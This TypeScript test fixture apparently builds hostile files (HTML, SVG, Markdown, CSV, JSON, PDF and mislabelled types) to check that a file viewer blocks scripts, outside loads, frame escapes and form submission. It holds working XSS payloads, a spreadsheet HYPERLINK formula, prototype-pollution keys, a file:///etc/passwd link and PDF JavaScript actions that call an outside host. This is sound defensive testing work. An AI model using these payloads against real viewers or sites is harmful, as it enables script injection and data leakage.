import { onePagePdf } from "../../reading/support/one-page-pdf.js";
import { trapWord } from "./open-watched-page.js";

/** An output that means harm. */
export interface HostileOutput {
  readonly name: string;
  readonly content: string | Uint8Array;
  /** What its maker claims that it is. */
  readonly contentType?: string;
  /** What is seen of it when it is shown, and nothing ran: a selector and a text in it. */
  readonly shown: readonly [selector: string, text: string];
}

/** Contents that try to run a script, to load from outside, to leave their frame, to open windows and to send forms. */
export function hostileContents(outside: string): readonly HostileOutput[] {
  const script = `window.${trapWord}=1;document.title='${trapWord}';console.log('${trapWord}');fetch('${outside}/fetch');alert('${trapWord}');window.open('${outside}/window');top.location='${outside}/top'`;
  const html = hostileHtml(outside, script);
  const svg = hostileSvg(outside, script);
  const markup = `</script><script>${script}</script><img src=x onerror="${script}">`;
  return [
    { name: "report.html", content: html, contentType: "text/html", shown: ["iframe", ""] },
    {
      name: "claims-nothing.xhtml",
      content: html,
      contentType: "application/xhtml+xml",
      shown: ["iframe", ""],
    },
    { name: "drawing.svg", content: svg, contentType: "image/svg+xml", shown: ["img.picture", ""] },
    { name: "notes.md", content: hostileMarkdown(outside, script), shown: [".markdown", "Notes"] },
    {
      name: "table.csv",
      content: `name,value\n"${markup.replaceAll('"', '""')}","=HYPERLINK(""${outside}/csv"")"\n`,
      shown: [".data-table", "<script>"],
    },
    {
      name: "data.json",
      content: JSON.stringify({ __proto__: 1, [markup]: markup, constructor: { prototype: markup } }),
      shown: [".json", "<script>"],
    },
    {
      name: "events.ndjson",
      content: `${JSON.stringify({ [markup]: markup })}\n{"__proto__":{"polluted":"${trapWord}"}}\n`,
      shown: [".data-table", "<script>"],
    },
    {
      name: "report.pdf",
      content: hostilePdf(outside),
      contentType: "application/pdf",
      shown: [".pdf-place", "A page"],
    },
    {
      name: "main.js",
      content: `// ${markup}\n${script}\n`,
      contentType: "text/javascript",
      shown: [".code", "fetch("],
    },
    {
      name: "plain.txt",
      content: `${markup}\n\u001b]8;;javascript:${script}\u0007link\u001b]8;;\u0007\n`,
      shown: [".pane", "<script>"],
    },
    // Types and names that lie.
    { name: "page-called.png", content: html, contentType: "image/png", shown: [".pane", "<script>"] },
    { name: "page-called.txt", content: html, contentType: "text/html", shown: [".pane", "<script>"] },
    { name: "page-called.mp4", content: html, contentType: "video/mp4", shown: [".pane", "<script>"] },
    { name: "page-called.pdf", content: html, contentType: "application/pdf", shown: [".pane", "<script>"] },
    { name: "drawing-called", content: svg, contentType: "text/html", shown: ["iframe", ""] },
    {
      name: "page-called.svg",
      content: html.replace("<html>", '<html><svg xmlns="http://www.w3.org/2000/svg">'),
      contentType: "text/html",
      shown: [".state", "cannot show this as a picture"],
    },
    {
      name: "script-without-a-name",
      content: script,
      contentType: "text/javascript",
      shown: [".pane", "fetch("],
    },
  ];
}

function hostileHtml(outside: string, script: string): string {
  return `<!doctype html><html><head><title>report</title><base href="${outside}/base/">
<meta http-equiv="refresh" content="0;url=${outside}/refresh">
<link rel="stylesheet" href="${outside}/style"><link rel="preconnect" href="${outside}"><link rel="prefetch" href="${outside}/prefetch">
<link rel="dns-prefetch" href="${outside}"><link rel="modulepreload" href="${outside}/module"><LINK REL=preload AS=script HREF="${outside}/preload">
<style>@import "${outside}/import"; body{background:url("${outside}/background")} @font-face{font-family:x;src:url("${outside}/font")} p{font-family:x}</style>
<script src="${outside}/script"></script><script>${script}</script></head>
<body onload="${script}"><p>report</p><img src="${outside}/picture" onerror="${script}"><svg onload="${script}"></svg>
<iframe src="${outside}/frame"></iframe><iframe srcdoc="<script>parent.${trapWord}=1;${script}</script>"></iframe>
<iframe src="javascript:${script}"></iframe><object data="${outside}/object"></object><embed src="${outside}/embed">
<video src="${outside}/video" autoplay></video><audio src="${outside}/audio" autoplay></audio>
<form id="f" action="${outside}/form" method="post" target="_top"><input name="a" value="b" autofocus onfocus="${script}"><button id="send">send</button></form>
<a id="top" href="${outside}/link" target="_top" ping="${outside}/ping">to the top</a>
<a id="blank" href="${outside}/link" target="_blank">a window</a><a id="self" href="${outside}/link">here</a><a id="script" href="javascript:${script}">run</a>
</body></html>`;
}

function hostileSvg(outside: string, script: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200" onload="${script}">
<script>${script}</script><script href="${outside}/svg-script"/><style>@import "${outside}/svg-style"; rect{fill:url("${outside}/fill")}</style>
<image href="${outside}/svg-picture" width="50" height="50"/><use xlink:href="${outside}/svg-use#a"/>
<foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${outside}/svg-frame"></iframe></foreignObject>
<a href="javascript:${script}"><rect width="200" height="200" fill="#eee"/></a><animate attributeName="x" onbegin="${script}"/></svg>`;
}

function hostileMarkdown(outside: string, script: string): string {
  return `# Notes\n\n<script>${script}</script>\n\n<img src="${outside}/md-html" onerror="${script}">\n\n![picture](${outside}/md-picture)\n
[run](javascript:${encodeURIComponent(script)}) [Run](JaVaScRiPt:alert('${trapWord}')) [data](data:text/html,<script>${encodeURIComponent(script)}</script>) [file](file:///etc/passwd)
[ref]\n\n[ref]: javascript:alert('${trapWord}') "x"\n\n<iframe src="${outside}/md-frame"></iframe>\n\n<style>@import "${outside}/md-style"</style>\n\n<${outside}/auto>\n`;
}

function hostilePdf(outside: string): Uint8Array {
  const js = `app.alert('${trapWord}'); app.launchURL('${outside}/pdf-launch'); this.submitForm('${outside}/pdf-form');`;
  const action = `<< /S /JavaScript /JS (${js.replace(/[()\\]/g, String.raw`\$&`)}) >>`;
  return onePagePdf(["A page"], {
    catalogue: `/OpenAction ${action} /AA << /WC ${action} >> /Names << /JavaScript << /Names [(a) ${action}] >> >> /AcroForm << /Fields [] /XFA (<x/>) >> /URI << /Base (${outside}/pdf-base) >>`,
    page: `/AA << /O ${action} >> /Annots [6 0 R 7 0 R]`,
    objects: [
      `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (${outside}/pdf-link) >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (${outside}/pdf-file) >> >>`,
    ],
  });
}
